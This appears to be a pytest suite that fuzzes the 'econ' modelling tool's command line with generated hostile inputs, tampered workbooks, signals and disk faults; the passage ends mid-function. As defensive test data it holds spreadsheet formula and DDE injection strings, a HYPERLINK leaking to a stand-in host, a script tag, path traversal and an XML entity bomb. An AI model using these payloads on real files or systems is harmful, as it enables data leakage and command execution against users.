"""A generated corpus of hostile inputs and faults (issue 10).

Every case runs the real command line and asserts what econ promises: an exit
code in {0, 1 (a batch with failed scenarios), 2 (bad input), 3 (environment
fault)}, never a traceback or an "internal error", a message naming the file
(and the key or cell where there is one), nothing left at a final output path
when a command fails, no temporary file left behind, nothing unescaped in the
HTML and no formula or link made from text in a workbook.

The cases are generated: each mutation of a seed scenario file (every
assumption x every kind of bad value or unit, the top-level keys, the
timeline), tampered workbooks, special files, batch folders, file-system
faults and signals. ``len(CASES)`` is asserted at the bottom (at least 150).
"""

from __future__ import annotations

import contextlib
import importlib.util
import os
import re
import shutil
import signal
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from econ.cli import main

ROOT = Path(__file__).resolve().parents[1]
SEEDS = ROOT / "seeds"
SEED = "national_ree_gap"
RUB_SEED = "acron_murmansk"
EVIL_TITLES = (
    '=HYPERLINK("http://evil.example/?leak","Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+2)",
    "@SUM(1)",
    "<script>alert(1)</script>",
    "http://evil.example/",
    "\x1b[2J\x07bell",
    "del\x7fchar",
    "\u202eright-to-left",
)


def _text(seed: str = SEED) -> str:
    return (SEEDS / f"{seed}.toml").read_text(encoding="utf-8")


def _keys(seed: str) -> list[str]:
    return re.findall(r"^\[assumptions\.(\w+)\]", _text(seed), flags=re.M)


def _set(text: str, key: str, field: str, literal: str | None) -> str:
    """Set (or, with ``None``, remove) ``field`` of assumption ``key``."""
    start = text.index(f"[assumptions.{key}]")
    end = text.find("\n[", start + 1)
    end = len(text) if end < 0 else end
    block = text[start:end]
    pattern = re.compile(rf"^{field} = .*$", flags=re.M)
    if literal is None:
        block = pattern.sub("", block)
    elif pattern.search(block):
        block = pattern.sub(lambda _: f"{field} = {literal}", block, count=1)
    else:
        block = block.replace("]\n", f"]\n{field} = {literal}\n", 1)
    return text[:start] + block + text[end:]


def _top(text: str, key: str, literal: str) -> str:
    return re.sub(rf"^{key} = .*$", lambda _: f"{key} = {literal}", text, count=1, flags=re.M)


def _toml_string(s: str) -> str:
    out = []
    for ch in s:
        if ch in '"\\' or ord(ch) < 32 or ord(ch) == 0x7F:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


@dataclass(frozen=True)
class Case:
    """One hostile input: ``make`` writes it into a folder and returns the
    path given to ``econ build``; ``where`` must appear in the message when
    the build is refused."""

    id: str
    make: Callable[[Path], Path]
    where: str = ""
    may_build: bool = False


def _scenario_case(
    id: str, text_of: Callable[[], str], where: str = "", may_build: bool = False
) -> Case:
    def make(folder: Path) -> Path:
        path = folder / "hostile.toml"
        path.write_text(text_of(), encoding="utf-8")
        return path

    return Case(id, make, where, may_build)


BAD_VALUES = {
    "text": '"twelve"',
    "bool": "true",
    "empty_list": "[]",
    "table": "{ a = 1 }",
    "huge": "1e308",
    "minus_huge": "-1e308",
    "nan": "nan",
    "inf": "inf",
    "date": "2025-01-01",
}
BAD_UNITS = {
    "power_tower": '"USD/kg*10**10**10"',
    "degC": '"degC"',
    "parens": '"((((USD))))"',
    "long": '"' + "k" * 200 + '"',
    "unknown": '"furlongs"',
    "number": "12",
    "injection": "\"__import__('os')\"",
}


def _scenario_cases() -> list[Case]:
    cases: list[Case] = []
    for seed in (SEED, RUB_SEED):
        for key in _keys(seed):
            where = f"assumptions.{key}"
            for name, literal in BAD_VALUES.items():
                cases.append(
                    _scenario_case(
                        f"{seed}-{key}-value-{name}",
                        lambda s=seed, k=key, v=literal: _set(_text(s), k, "value", v),
                        where,
                    )
                )
            for name, literal in BAD_UNITS.items():
                cases.append(
                    _scenario_case(
                        f"{seed}-{key}-unit-{name}",
                        lambda s=seed, k=key, v=literal: _set(_text(s), k, "unit", v),
                        where,
                    )
                )
            cases.append(
                _scenario_case(
                    f"{seed}-{key}-no-value",
                    lambda s=seed, k=key: _set(_text(s), k, "value", None),
                    where,
                )
            )
    for i, title in enumerate(EVIL_TITLES):
        cases.append(
            _scenario_case(
                f"title-{i}",
                lambda t=title: _top(_text(), "title", _toml_string(t)),
                may_build=True,
            )
        )
    top = {
        "name-index": ("name", '"index"', True),
        "name-traversal": ("name", '"../evil"', False),
        "name-space": ("name", '"a b"', False),
        "name-nul": ("name", '"a\\u0000"', False),
        "title-nul": ("title", '"x\\u0000"', False),
        "model-unknown": ("model", '"nope"', False),
        "model-number": ("model", "3", False),
        "start-year-zero": ("start_year", "0", False),
        "start-year-huge": ("start_year", "99999999999", False),
        "start-year-text": ("start_year", '"2025"', False),
        "horizon-zero": ("horizon_yr", "0", False),
        "horizon-negative": ("horizon_yr", "-3", False),
        "horizon-huge": ("horizon_yr", "100000", False),
        "horizon-float": ("horizon_yr", "30.5", False),
    }
    for id, (key, literal, builds) in top.items():
        where = {"start_year": "timeline", "horizon_yr": "timeline"}.get(key, key)
        cases.append(
            _scenario_case(
                id, lambda k=key, v=literal: _top(_text(), k, v), where=where, may_build=builds
            )
        )
    raw = {
        "deep-nesting": "a = " + "[" * 5000 + "]" * 5000 + "\n",
        "deep-tables": "x = " + "{ a = " * 200 + "1" + " }" * 200 + "\n",
        "empty": "",
        "not-toml": "this is not = = toml\n",
        "duplicate-key": _text() + '\nname = "again"\n',
        "unknown-key": _text() + '\nsurprise = "x"\n',
        "bom": "\ufeff" + _text(),
    }
    for id, content in raw.items():
        cases.append(_scenario_case(id, lambda c=content: c, may_build=id == "bom"))

    def binary(folder: Path) -> Path:
        path = folder / "hostile.toml"
        path.write_bytes(b"\xff\xfe\x00garbage\x80\x81")
        return path

    def too_big(folder: Path) -> Path:
        path = folder / "hostile.toml"
        path.write_text(_text() + "#" * (2 * 1024 * 1024) + "\n", encoding="utf-8")
        return path

    def zip_as_toml(folder: Path) -> Path:
        path = folder / "hostile.toml"
        shutil.copy(ROOT / "workbooks" / f"{SEED}.xlsx", path)
        return path

    def fifo(folder: Path) -> Path:
        path = folder / "pipe.toml"
        os.mkfifo(path)
        return path

    def folder_as_file(folder: Path) -> Path:
        path = folder / "dir.toml"
        path.mkdir()
        return path

    def missing(folder: Path) -> Path:
        return folder / "missing.toml"

    def suffix(ext: str) -> Callable[[Path], Path]:
        def make(folder: Path) -> Path:
            path = folder / f"hostile{ext}"
            path.write_text("a,b\n1,2\n", encoding="utf-8")
            return path

        return make

    cases += [
        Case("binary", binary),
        Case("too-big", too_big),
        Case("zip-as-toml", zip_as_toml),
        Case("fifo", fifo),
        Case("folder", folder_as_file),
        Case("missing", missing),
        Case("dev-zero", lambda folder: Path("/dev/zero")),
        *(Case(f"suffix{ext}", suffix(ext)) for ext in (".csv", ".ods", ".xls", ".json")),
    ]
    return cases


# ---------------------------------------------------------------------------
# tampered workbooks
# ---------------------------------------------------------------------------


def _workbook_case(id: str, tamper: Callable[[openpyxl.Workbook], None], where: str = "") -> Case:
    def make(folder: Path) -> Path:
        path = folder / "tampered.xlsx"
        wb = openpyxl.load_workbook(ROOT / "workbooks" / f"{SEED}.xlsx")
        tamper(wb)
        wb.save(path)
        return path

    return Case(id, make, where)


def _meta_set(key: str, value: object) -> Callable[[openpyxl.Workbook], None]:
    def tamper(wb: openpyxl.Workbook) -> None:
        ws = wb["_econ"]
        for row in ws.iter_rows(min_row=2):
            if row[0].value == key:
                row[1].value = value
                return
        raise AssertionError(key)

    return tamper


def _cell(ref: str, value: object) -> Callable[[openpyxl.Workbook], None]:
    def tamper(wb: openpyxl.Workbook) -> None:
        sheet, cell = ref.split("!")
        wb[sheet][cell] = value

    return tamper


def _bytes_case(id: str, data: Callable[[], bytes], name: str = "tampered.xlsx") -> Case:
    def make(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data())
        return path

    return Case(id, make)


def _rezip(name: str, change: Callable[[str, bytes], bytes]) -> Callable[[Path], Path]:
    def make(folder: Path) -> Path:
        path = folder / name
        with (
            zipfile.ZipFile(ROOT / "workbooks" / f"{SEED}.xlsx") as src,
            zipfile.ZipFile(path, "w") as dst,
        ):
            for info in src.infolist():
                dst.writestr(info, change(info.filename, src.read(info)))
        return path

    return make


def _entities(member: str, data: bytes) -> bytes:
    if member != "xl/sharedStrings.xml":
        return data
    bomb = b'?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
    return data.replace(b"?>", bomb, 1)


def _dimension(member: str, data: bytes) -> bytes:
    if not member.startswith("xl/worksheets/sheet"):
        return data
    return re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1000000"', data)


def _workbook_cases() -> list[Case]:
    seed = (ROOT / "workbooks" / f"{SEED}.xlsx").read_bytes()
    return [
        _workbook_case("meta-scenario-garbage", _meta_set("scenario_toml", "= = ="), "_econ"),
        _workbook_case("meta-scenario-number", _meta_set("scenario_toml", 5), "_econ"),
        _workbook_case("meta-generator", _meta_set("generator", "evil"), "_econ"),
        _workbook_case("meta-input-ref-number", _meta_set("input.discount_rate", 7), "_econ"),
        _workbook_case("meta-input-ref-bad", _meta_set("input.discount_rate", "Nope!ZZ0")),
        _workbook_case("meta-input-ref-far", _meta_set("input.discount_rate", "Assumptions!C9000")),
        _workbook_case("meta-deleted", lambda wb: wb.remove(wb["_econ"])),
        _workbook_case("assumptions-deleted", lambda wb: wb.remove(wb["Assumptions"])),
        _workbook_case("horizon-edited", _cell("Assumptions!C4", 99), "Assumptions!C4"),
        _workbook_case("start-year-text", _cell("Assumptions!C3", "soon"), "Assumptions!C3"),
        _workbook_case("formula-without-value", _cell("Assumptions!C7", "=C9*2"), "Assumptions"),
        _workbook_case("input-text", _cell("Assumptions!C7", "twelve"), "Assumptions"),
        _workbook_case("key-renamed", _cell("Assumptions!A7", "renamed"), "Assumptions!A7"),
        _workbook_case("unit-changed", _cell("Assumptions!D7", "RUB/kg"), "Assumptions!D7"),
        _workbook_case("many-rows", _cell("Assumptions!A20001", "x"), "Assumptions"),
        _bytes_case("encrypted", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
        _bytes_case("truncated", lambda: seed[: len(seed) // 2]),
        _bytes_case("not-zip", lambda: b"hello"),
        _bytes_case("empty-xlsx", lambda: b""),
        _bytes_case("xlsm-garbage", lambda: b"PK\x03\x04junk", "tampered.xlsm"),
        Case("entity-bomb", _rezip("bomb.xlsx", _entities)),
        Case("huge-dimension", _rezip("wide.xlsx", _dimension)),
    ]


CASES = _scenario_cases() + _workbook_cases()


def _files(folder: Path) -> set[str]:
    return {p.name for p in folder.rglob("*")} if folder.exists() else set()


def _check_outputs(out: Path) -> None:
    """Nothing unescaped in the HTML, no formula or link made of text."""
    for page in out.glob("*.html"):
        html = page.read_text(encoding="utf-8")
        assert "<script>alert" not in html
        assert 'href="http://evil' not in html
    for book in out.glob("*.xlsx"):
        with zipfile.ZipFile(book) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/sheet"):
                    xml = zf.read(name).decode("utf-8")
                    for formula in re.findall(r"<f>(.*?)</f>", xml):
                        assert "evil" not in formula and "cmd|" not in formula, formula
                if name.endswith(".rels"):
                    assert "evil.example" not in zf.read(name).decode("utf-8")


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_hostile_input(case: Case, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    src = tmp_path / "in"
    src.mkdir()
    path = case.make(src)
    out = tmp_path / "out"
    code = main(["build", str(path), "-o", str(out)])
    captured = capsys.readouterr()
    err = captured.err
    assert code in (0, 2, 3), err
    assert "Traceback" not in err and "internal error" not in err, err
    if code == 0:
        # A value inside the model's domain but outside the assumption's own
        # range builds with a warning naming it (issue 12: ranges warn).
        key = case.where.removeprefix("assumptions.").split(".")[0]
        warned = f"'{key}' value" in captured.out and "outside its stated range" in captured.out
        assert case.may_build or warned, f"accepted: {captured.out}"
        _check_outputs(out)
        from econ.excel.reader import read_workbook

        for book in out.glob("*.xlsx"):  # econ reads back what it writes (U+007F, 1e308...)
            read_workbook(book)
    else:
        assert code == 2, err
        assert err.startswith("econ: error: ") and err.count("\n") == 1, err
        assert str(path) in err, err
        assert case.where in err, err
        assert not _files(out), "a failed build left files"
    assert not [p for p in _files(out) | _files(src) if ".econ-tmp-" in p]


# ---------------------------------------------------------------------------
# Batches: collisions, failure rows, reserved names, options
# ---------------------------------------------------------------------------


def _named(folder: Path, file: str, name: str, seed: str = SEED) -> Path:
    path = folder / file
    path.write_text(_top(_text(seed), "name", f'"{name}"'), encoding="utf-8")
    return path


def test_batch_collisions_and_reserved_names_get_distinct_files(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    src = tmp_path / "in"
    src.mkdir()
    _named(src, "a.toml", "same")
    _named(src, "b.toml", "same")
    _named(src, "c.toml", "index")
    _named(src, "d.toml", "summary")
    (src / "e.toml").write_text(_set(_text(), "discount_rate", "value", '"x"'), encoding="utf-8")
    out = tmp_path / "out"
    code = main(["batch", str(src), "-o", str(out), "-j", "2", "-q"])
    err = capsys.readouterr().err
    assert code == 1, err  # e.toml fails, the others build
    assert "Traceback" not in err
    assert f"{src / 'b.toml'}: scenario name 'same' is also the name of {src / 'a.toml'}" in err
    files = _files(out)
    assert {"same.xlsx", "same-2.xlsx", "index-2.xlsx", "summary-2.xlsx"} <= files
    assert {"index.html", "summary.csv", "summary.xlsx"} <= files
    index = (out / "index.html").read_text(encoding="utf-8")
    for stem in ("same", "same-2", "index-2", "summary-2"):
        assert f'href="{stem}.html"' in index
    # the failure row names the file and the key
    assert f"{src / 'e.toml'}: assumptions.discount_rate" in index


@pytest.mark.parametrize("argv", [["-j", "0"], ["-j", "-3"], ["-j", "100000"], ["--timeout", "-1"]])
def test_batch_refuses_bad_options(
    argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "out"
    with pytest.raises(SystemExit) as exc:
        main(["batch", str(SEEDS), "-o", str(out), *argv])
    assert exc.value.code == 2
    assert "Traceback" not in capsys.readouterr().err
    assert not out.exists()


def test_scheduler_that_does_not_answer_is_a_message(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("dask.distributed")
    out = tmp_path / "out"
    assert main(["batch", str(SEEDS), "-o", str(out), "--scheduler", "tcp://127.0.0.1:1"]) == 2
    err = capsys.readouterr().err
    assert "--scheduler" in err and "Traceback" not in err
    assert not out.exists()  # no empty output folder


# ---------------------------------------------------------------------------
# Environment faults (exit 3) and process faults: stdout full, signals, kill
# ---------------------------------------------------------------------------


def test_output_under_a_file_is_an_environment_fault(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    for out in (blocker, blocker / "sub"):
        code = main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)])
        err = capsys.readouterr().err
        assert code == 3, err
        assert err.startswith("econ: error: cannot ") and str(blocker) in err
        assert "Traceback" not in err
    assert blocker.read_text() == "x"


def test_read_only_folder_is_an_environment_fault(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    if os.geteuid() == 0:
        pytest.skip("root writes into read-only folders")
    out = tmp_path / "ro"
    out.mkdir()
    out.chmod(0o555)
    assert main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)]) == 3


def _as_in_a_terminal() -> None:
    """In the child: Ctrl-C as a terminal delivers it. A test run started in
    the background (``cmd &``, some CI runners) inherits SIGINT ignored, and a
    Python started so never sees it."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def _econ(*args: str, stdout: object = subprocess.PIPE) -> subprocess.Popen[bytes]:
    return subprocess.Popen(
        [sys.executable, "-m", "econ", *args],
        stdout=stdout,  # type: ignore[arg-type]
        stderr=subprocess.PIPE,
        start_new_session=True,
        preexec_fn=_as_in_a_terminal,
    )


def test_stdout_to_dev_full_is_exit_3_without_traceback() -> None:
    with open("/dev/full", "wb") as full:
        proc = _econ("show", str(SEEDS / f"{SEED}.toml"), stdout=full)
        _, err = proc.communicate(timeout=120)
    assert proc.returncode == 3, err
    assert b"Traceback" not in err and b"Exception ignored" not in err
    assert err.decode().startswith("econ: error: cannot ")


def _cmdline(pid: int) -> str:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()
    except OSError:
        return "(gone)"


def _running(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


def _children(pid: int) -> list[int]:
    out = subprocess.run(["ps", "-o", "pid=", "--ppid", str(pid)], capture_output=True, text=True)
    return [int(p) for p in out.stdout.split()]


@pytest.mark.parametrize(("sig", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_signals_stop_a_batch_promptly(tmp_path: Path, sig: int, code: int) -> None:
    src = tmp_path / "in"
    src.mkdir()
    for i in range(60):
        _named(src, f"s{i}.toml", f"s{i}")
    out = tmp_path / "out"
    proc = _econ("batch", str(src), "-o", str(out), "-j", "2", "-q")
    deadline = time.monotonic() + 90
    while not list(out.glob("s*.xlsx")):
        assert time.monotonic() < deadline, "no workbook within 90 s"
        time.sleep(0.1)
    children = _children(proc.pid)
    stopped_at = time.monotonic()
    if sig == signal.SIGINT:
        os.killpg(proc.pid, sig)  # Ctrl-C reaches the whole foreground group
    else:
        proc.send_signal(sig)
    _, err = proc.communicate(timeout=30)
    assert time.monotonic() - stopped_at < 15, "did not stop promptly"
    assert proc.returncode == code, err
    assert b"Traceback" not in err
    assert len([line for line in err.decode().splitlines() if line.strip()]) == 1, err
    assert len(list(out.glob("s*.xlsx"))) < 60, "every remaining task was still built"
    deadline = time.monotonic() + 5  # the resource tracker exits when its pipe closes
    while (alive := [c for c in children if _running(c)]) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not alive, f"workers left running: {[_cmdline(c) for c in alive]}"
    assert not [p for p in _files(out) if ".econ-tmp-" in p]


@pytest.mark.parametrize("moment", ["workers starting", "workers building"])
def test_ctrl_c_stops_a_sweep_with_files_promptly(tmp_path: Path, moment: str) -> None:
    """Issue 12: Ctrl-C during ``econ sweep --files`` (to the whole foreground
    group, as a terminal sends it) stops at once: pending variants are
    cancelled and running ones terminated, exit 130 with one line and no
    traceback (also from a worker still starting up), no worker left, and
    only complete files at final paths (each variant's workbook and page
    together, or neither)."""
    out = tmp_path / "out"
    proc = _econ(
        "sweep",
        str(SEEDS / "magnets_plant.toml"),
        "--vary",
        "capex_usd=100:300:2",
        "--files",
        "-o",
        str(out),
        "-j",
        "2",
        "-q",
    )
    deadline = time.monotonic() + 90
    ready = (
        (lambda: out.is_dir())
        if moment == "workers starting"
        else (lambda: bool(list(out.glob("*.xlsx"))))
    )
    while not ready():
        assert time.monotonic() < deadline and proc.poll() is None, "sweep did not start"
        time.sleep(0.02)
    children = _children(proc.pid)
    stopped_at = time.monotonic()
    os.killpg(proc.pid, signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert time.monotonic() - stopped_at < 10, "did not stop promptly"
    assert proc.returncode == 130, err
    assert b"Traceback" not in err and b"KeyboardInterrupt" not in err, err
    assert len([line for line in err.decode().splitlines() if line.strip()]) == 1, err
    deadline = time.monotonic() + 5
    while (alive := [c for c in children if _running(c)]) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not alive, f"workers left running: {[_cmdline(c) for c in alive]}"
    files = _files(out)
    assert not [p for p in files if ".econ-tmp-" in p]
    assert len([p for p in files if p.endswith(".xlsx")]) < 101, "every variant was built"
    assert not {"sweep.html", "sweep.csv"} & files  # the sweep's page comes last, if at all
    for book in out.glob("*.xlsx"):
        assert (out / f"{book.stem}.html").read_text(encoding="utf-8").rstrip().endswith("</html>")
        openpyxl.load_workbook(book, read_only=True).close()  # a complete workbook
    for page in out.glob("*--*.html"):
        assert (out / f"{page.stem}.xlsx").is_file()


def test_kill_during_write_never_leaves_a_broken_workbook(tmp_path: Path) -> None:
    """kill -9 at staggered moments of a build: the final path holds either
    nothing or a complete workbook econ reads back; a later run removes the
    temporary files the killed runs left."""
    from econ.excel.reader import read_workbook

    out = tmp_path / "out"
    for i in range(8):
        proc = _econ("build", str(SEEDS / f"{SEED}.toml"), "-o", str(out))
        time.sleep(0.3 + 0.12 * i)
        proc.kill()
        proc.communicate(timeout=30)
        book = out / f"{SEED}.xlsx"
        if book.exists():
            assert read_workbook(book).scenario.name == SEED
    gone = subprocess.Popen(["true"])
    gone.wait()
    out.mkdir(exist_ok=True)
    stale = out / f".{SEED}.xlsx.econ-tmp-{gone.pid}-abc.tmp"
    stale.write_bytes(b"half a workbook")
    assert main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)]) == 0
    assert not [p for p in _files(out) if ".econ-tmp-" in p]
    assert not [p for p in _files(out) if "edited-backup" in p]  # econ's own files: no backup


def test_kill_during_a_batch_never_leaves_a_broken_file(tmp_path: Path) -> None:
    """kill -9 of a whole batch (parent and workers, whose files are flushed
    to disk once at the end of the batch, not one by one) at staggered
    moments: every workbook at a final path reads back, every page is
    whole; the next batch removes the temporary files and keeps no backup
    of econ's own files."""
    from econ.excel.reader import read_workbook

    src = tmp_path / "in"
    src.mkdir()
    text = (SEEDS / f"{SEED}.toml").read_text(encoding="utf-8")
    for i in range(24):
        (src / f"s{i}.toml").write_text(
            text.replace(f'name = "{SEED}"', f'name = "s{i}"', 1), encoding="utf-8"
        )
    out = tmp_path / "out"
    for i in range(4):
        proc = _econ("batch", str(src), "-o", str(out), "-j", "2", "-q")
        deadline = time.monotonic() + 120
        while len(list(out.glob("*.xlsx"))) < 2 + 5 * i and proc.poll() is None:
            assert time.monotonic() < deadline, "the batch wrote nothing"
            time.sleep(0.02)
        os.killpg(proc.pid, signal.SIGKILL)
        proc.communicate(timeout=30)
        for book in out.glob("*.xlsx"):
            if book.name != "summary.xlsx":
                assert read_workbook(book).scenario.name == book.stem
        for page in out.glob("*.html"):
            assert page.read_text(encoding="utf-8").rstrip().endswith("</html>"), page
    assert main(["batch", str(src), "-o", str(out), "-j", "2", "-q"]) == 0
    assert not [p for p in _files(out) if ".econ-tmp-" in p]
    assert not [p for p in _files(out) if "edited-backup" in p]


def test_a_batch_flushes_its_files_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Inside deferred_fsync (a batch's workers) no file is flushed on its
    own; make_durable flushes the folder's file system once (syncfs) and the
    folder; outside, every file is flushed before it is moved into place."""
    from econ.outputs import files

    flushed: list[int] = []
    real_fsync = os.fsync
    monkeypatch.setattr(os, "fsync", lambda fd: flushed.append(fd) or real_fsync(fd))
    files.write_atomic(tmp_path / "a.csv", "a\n")
    assert len(flushed) == 1
    with files.deferred_fsync():
        for i in range(5):
            files.write_atomic(tmp_path / f"b{i}.csv", "b\n")
    assert len(flushed) == 1
    synced: list[int] = []
    real_syncfs = files._syncfs
    monkeypatch.setattr(files, "_syncfs", lambda fd: synced.append(fd) or real_syncfs(fd))
    files.make_durable(tmp_path)
    assert len(synced) == 1 and len(flushed) == 2  # one syncfs, one fsync of the folder
    assert (tmp_path / "b4.csv").read_text() == "b\n"


# ---------------------------------------------------------------------------
# Edits accounted for
# ---------------------------------------------------------------------------


def test_edited_workbooks_are_kept_on_run(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`econ run` (make run) over a folder holding an edited workbook keeps it."""
    out = tmp_path / "wb"
    assert main(["run", str(SEEDS), "-o", str(out)]) == 0
    book = out / f"{SEED}.xlsx"
    untouched = {p.name: p.read_bytes() for p in out.glob("*.xlsx")}
    wb = openpyxl.load_workbook(book)
    wb["Assumptions"]["B2"] = "my note"
    wb.save(book)
    edited = book.read_bytes()
    capsys.readouterr()
    assert main(["run", str(SEEDS), "-o", str(out)]) == 0
    printed = capsys.readouterr().out
    backup = out / f"{SEED}.edited-backup.xlsx"
    assert backup.read_bytes() == edited
    assert f"kept {book} as {backup}" in printed
    assert len(list(out.glob("*.edited-backup*"))) == 1  # the others were econ's own
    rebuilt = {p.name: p.read_bytes() for p in out.glob("*.xlsx") if "backup" not in p.name}
    assert rebuilt == untouched
    # a foreign file at an output path is kept too
    book.write_bytes(b"not a workbook")
    assert main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)]) == 0
    assert (out / f"{SEED}.edited-backup-2.xlsx").read_bytes() == b"not a workbook"


def _cache_value(path: Path, cell: str, value: str) -> None:
    """Give a formula cell a cached value, as a spreadsheet application does."""
    tmp = path.with_suffix(".tmp.xlsx")
    changed = False
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.startswith("xl/worksheets/sheet"):
                new = re.sub(
                    rf'(<c r="{cell}"[^>]*>)<f>([^<]*)</f>(<v></v>|<v/>)?',
                    lambda m: f"{m[1]}<f>{m[2]}</f><v>{value}</v>",
                    data.decode("utf-8"),
                ).encode("utf-8")
                changed |= new != data
                data = new
            dst.writestr(info, data)
    assert changed
    tmp.replace(path)


def test_formula_in_an_input_cell_is_read_and_reported(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """LibreOffice saves a typed formula with its value: econ uses the value
    and says so (the value is cached here as a spreadsheet would)."""
    src = ROOT / "workbooks" / f"{SEED}.xlsx"
    path = tmp_path / "what_if.xlsx"
    wb = openpyxl.load_workbook(src)
    ref = next(
        r[1].value for r in wb["_econ"].iter_rows(min_row=2) if r[0].value == "input.discount_rate"
    )
    cell = str(ref).split("!")[1].replace("$", "")
    wb["Assumptions"][cell] = "=0.06*2"
    wb.save(path)
    _cache_value(path, cell, "0.12")
    assert main(["build", str(path)]) == 0
    printed = capsys.readouterr().out
    assert f"Assumptions!{cell}: the formula '=0.06*2' in an input cell was read as its value" in (
        printed
    )
    assert "edited discount_rate" in printed
    # an edited copy is rebuilt under its own name: the original's page is untouched
    assert (tmp_path / "what_if.html").exists() and not (tmp_path / f"{SEED}.html").exists()


def test_the_corpus_is_large_enough() -> None:
    assert len(CASES) >= 150


def test_outputs_get_the_umask_mode_and_export_refuses_a_folder(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Every output (workbook, page, exported TOML) gets ``0o666 & ~umask``,
    as any new file would; ``export -o FOLDER`` is bad input, not a crash."""
    umask = os.umask(0o022)
    os.umask(umask)
    out = tmp_path / "out"
    assert main(["build", str(SEEDS / f"{SEED}.toml"), "-o", str(out)]) == 0
    toml = tmp_path / "x.toml"
    assert main(["export", str(out / f"{SEED}.xlsx"), "-o", str(toml)]) == 0
    for path in (out / f"{SEED}.xlsx", out / f"{SEED}.html", toml):
        assert path.stat().st_mode & 0o777 == 0o666 & ~umask, path
    capsys.readouterr()
    assert main(["export", str(out / f"{SEED}.xlsx"), "-o", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "found a folder" in err and "Traceback" not in err


def test_a_task_over_its_time_limit_is_a_failure_row_and_writes_nothing(tmp_path: Path) -> None:
    from econ.batch import Task, build_task

    row = build_task(Task(str(SEEDS / f"{SEED}.toml")), str(tmp_path), timeout_s=1e-4)
    assert row["error"] is not None and "time limit of one scenario" in row["error"]
    assert str(SEEDS / f"{SEED}.toml") in row["error"]
    assert not [p for p in tmp_path.iterdir() if p.suffix in (".xlsx", ".html")]
    assert not [p for p in tmp_path.iterdir() if ".econ-tmp-" in p.name]


@pytest.fixture
def tiny_disk(tmp_path: Path) -> Iterator[Path]:
    """A 64 kB tmpfs (where the machine lets the tests mount one)."""
    mount = tmp_path / "tiny"
    mount.mkdir()
    done = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=64k", "tmpfs", str(mount)],
        capture_output=True,
        check=False,
    )
    if done.returncode != 0:
        pytest.skip("cannot mount a small tmpfs here")
    try:
        yield mount
    finally:
        # A worker still closing its files keeps the mount busy: detach it
        # then (a mount left behind breaks pytest's next --basetemp).
        if subprocess.run(["umount", str(mount)], capture_output=True, check=False).returncode:
            subprocess.run(["umount", "-l", str(mount)], capture_output=True, check=False)


def test_a_full_disk_is_exit_3_and_leaves_no_partial_outputs(
    tiny_disk: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tiny_disk / "out"
    assert main(["build", str(SEEDS / "magnets_plant.toml"), "-o", str(out)]) == 3
    err = capsys.readouterr().err
    assert err.startswith(f"econ: error: cannot write {out}") and "No space left" in err
    assert not os.listdir(out), "a failed build left files"  # all outputs or none
    proc = _econ("batch", str(SEEDS), "-o", str(tiny_disk / "b"), "-j", "2", "-q")
    _, raw = proc.communicate(timeout=300)
    assert proc.returncode == 3, raw
    assert b"Traceback" not in raw and b"Exception ignored" not in raw
    assert not [p for p in _files(tiny_disk) if ".econ-tmp-" in p]


# ---------------------------------------------------------------------------
# The project inputs of issue 11 (loans, tax holiday, basket, fx path,
# inflation, royalty, CfD strike, R&D grant year, plant life...): every input
# of the project model that the seed does not write, given bad values. The
# out-of-domain values come from each input's own domain (its InputSpec).
# ---------------------------------------------------------------------------

PROJECT_SEED = "magnets_plant"


def _project_specs() -> list[object]:
    """The project inputs the seed does not write, and the instruments' terms
    (which it writes since issue 11's seeds carry them)."""
    from econ.model.definition.instruments import INSTRUMENT_INPUTS
    from econ.model.definition.project import PROJECT

    given = set(_keys(PROJECT_SEED)) - {s.key for s in INSTRUMENT_INPUTS}
    return [s for s in PROJECT.inputs if s.key not in given]


def _add(text: str, key: str, unit: str, value: str | None, source: bool = True) -> str:
    """``text`` with the assumption ``key`` written as given (its own table,
    if the file has one, taken out first)."""
    text = re.sub(rf"^\[assumptions\.{key}\]\n(?:(?!\[).*\n)*", "", text, flags=re.M)
